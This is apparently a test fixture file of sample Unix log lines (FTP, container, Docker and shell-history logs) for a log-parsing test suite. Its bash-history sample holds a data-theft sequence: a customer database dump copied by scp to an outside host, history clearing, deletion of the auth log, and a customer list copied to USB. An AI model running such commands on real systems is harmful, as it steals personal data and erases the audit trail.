"""Logs of Unix systems."""

from __future__ import annotations

from tests.readers.make_line_samples import Log

# ruff: noqa: E501  # log lines are as long as they are

LOGS = (
    Log(
        "linux.vsftpd",
        "vsftpd.log",
        (
            'Mon Jun 17 10:00:00 2024 [pid 2101] CONNECT: Client "192.0.2.10"',
            'Mon Jun 17 10:00:02 2024 [pid 2100] [hanako] OK LOGIN: Client "192.0.2.10"',
            'Mon Jun 17 10:00:03 2024 [pid 2100] [root] FAIL LOGIN: Client "203.0.113.5"',
            'Mon Jun 17 10:00:09 2024 [pid 2102] [hanako] OK DOWNLOAD: Client "192.0.2.10", "/srv/ftp/list.csv", 40960 bytes, 1024.50Kbyte/sec',
            'Mon Jun 17 10:00:19 2024 [pid 2102] [hanako] OK UPLOAD: Client "192.0.2.10", "/srv/ftp/in.zip", 512 bytes, 10.00Kbyte/sec',
            'Mon Jun 17 10:00:29 2024 [pid 2102] [hanako] OK DELETE: Client "192.0.2.10", "/srv/ftp/in.zip"',
            'Mon Jun 17 10:00:30 2024 [pid 2102] [hanako] FTP command: Client "192.0.2.10", "QUIT"',
        ),
        (
            'Mon Jun 17 10:01:09 2024 [pid 2102] [yamada] OK DOWNLOAD: Client "192.0.2.11", "/srv/ftp/名簿.csv", 40960 bytes, 1024.50Kbyte/sec',
            'Mon Jun 17 10:01:19 2024 [pid 2102] [yamada] OK DOWNLOAD: Client "192.0.2.11", "/srv/ftp/顧客.csv", 512 bytes, 10.00Kbyte/sec',
        ),
    ),
    Log(
        "linux.xferlog",
        "xferlog",
        (
            "Mon Jun 17 10:00:09 2024 1 192.0.2.10 40960 /srv/ftp/list.csv b _ o r hanako ftp 0 * c",
            "Mon Jun 17 10:00:19 2024 2 192.0.2.10 512 /srv/ftp/my file.zip b _ i r hanako ftp 0 * i",
            "Mon Jun 17 10:00:29 2024 0 2001:db8::10 0 /srv/ftp/old.zip b _ d a ftp@example.jp ftp 0 * c",
        ),
        (
            "Mon Jun 17 10:01:09 2024 1 192.0.2.11 40960 /srv/ftp/名簿.csv b _ o r yamada ftp 0 * c",
            "Mon Jun 17 10:01:19 2024 1 192.0.2.11 512 /srv/ftp/顧客.csv b _ o r yamada ftp 0 * c",
        ),
    ),
    Log(
        "linux.container_cri",
        "0.log",
        (
            "2024-06-17T10:00:00.123456789+09:00 stdout F listening on :8080",
            '2024-06-17T10:00:01.5+09:00 stderr F {"level":"error","msg":"cannot open"}',
            "2024-06-17T01:00:02.000000001Z stdout P a line that is",
            "2024-06-17T01:00:02.000000002Z stdout F  cut in two",
        ),
        (
            "2024-06-17T10:01:00.1+09:00 stdout F 顧客名簿.csv を出力しました",
            "2024-06-17T10:01:01.1+09:00 stdout F 終了しました",
        ),
    ),
    Log(
        "linux.docker_json",
        "0a1b-json.log",
        (
            '{"log":"203.0.113.5 - hanako [17/Jun/2024:10:00:00 +0900] \\"GET /list?id=7 HTTP/1.1\\" 200 5120 \\"-\\" \\"curl/8\\"\\n","stream":"stdout","time":"2024-06-17T01:00:00.123456789Z"}',
            '{"log":"{\\"method\\":\\"GET\\",\\"path\\":\\"/api/7\\",\\"remote_addr\\":\\"203.0.113.5\\",\\"status\\":200,\\"bytes_sent\\":512}\\n","stream":"stdout","time":"2024-06-17T01:00:01Z"}',
            '{"log":"Login failed for user hanako from 203.0.113.5\\n","stream":"stderr","time":"2024-06-17T01:00:02Z"}',
        ),
        (
            '{"log":"ユーザー 123 がログインしました\\n","stream":"stdout","time":"2024-06-17T01:00:03Z"}',
            '{"log":"顧客名簿.csv を出力しました\\n","stream":"stdout","time":"2024-06-17T01:00:04Z"}',
        ),
    ),
    Log(
        "linux.shell_history_plain",
        ".bash_history",
        (
            "cd /srv/data",
            "mysqldump -u app shop customers > /tmp/c.sql",
            "for f in *.csv; do gzip $f; done",
            "scp /tmp/c.sql.gz hanako@203.0.113.9:",
            "history -c",
            "exit",
            "ls",
            "sudo rm -f /var/log/auth.log",
        ),
        ("less 顧客名簿.csv", "cp 顧客名簿.csv /mnt/usb/", "less 終.csv"),
    ),
)
